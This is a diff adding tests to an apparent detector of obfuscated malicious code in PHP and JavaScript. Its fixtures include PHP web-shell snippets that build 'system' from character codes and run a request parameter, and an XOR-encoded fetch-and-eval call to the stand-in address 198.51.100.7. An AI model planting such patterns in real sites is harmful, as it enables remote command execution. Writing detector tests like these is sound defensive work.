@@ -49,3 +49,24 @@ def test_a_script_of_calls_that_lead_on_for_ever_is_given_up() -> None:
 def test_the_sum_that_tells_the_turn_is_looked_for_in_few_places() -> None:
     array = "var _0x1=['a','b'];function _0x2(a,b){a=a-0x0;var s=_0x1[a];return s;}"
     assert strings_put_back(array + "_0x2(0x1);" + "try{var a=parseInt(" * 20_000).count("'b'") == 2
+
+
+def test_a_text_that_is_doubled_again_and_again_stays_short() -> None:
+    page = b"<?php $x = $_GET['a']; $a = 'aaaaaaaa';" + b"$a = $a.$a;" * 60
+    assert page_hides_its_calls(page, Span(0, 1)) is None
+
+
+@pytest.mark.parametrize("given", [b"012", b"'0xzz'", b"'\xb2'", b"0x", b"'" + b"9" * 5000 + b"'", b"''", b"-1"])
+def test_numbers_of_any_form_are_read_or_passed_over(given: bytes) -> None:
+    assert page_hides_its_calls(b"<?php $x = $_GET['a']; $f = chr(" + given + b"); $f($x);", Span(0, 1)) is None
+
+
+@pytest.mark.parametrize("s", [b"chr(115)", b"chr(0x73)", b"chr(0163)"])
+def test_characters_by_number(s: bytes) -> None:
+    page = b"<?php $x = $_GET['a']; $f = " + s + b".'ystem'; $f($x);"
+    assert page_hides_its_calls(page, Span(0, 1)) is not None
+
+
+def test_lists_of_numbers_with_zeros_before_them_are_read() -> None:
+    numbers = b",".join(b"%03d" % (one ^ 7) for one in b"fetch('http://198.51.100.7/a')")
+    assert purpose_is_malicious(b"var a = [" + numbers + b"]; eval(a.map(c => c ^ 007));", Span(0, 1)) is None
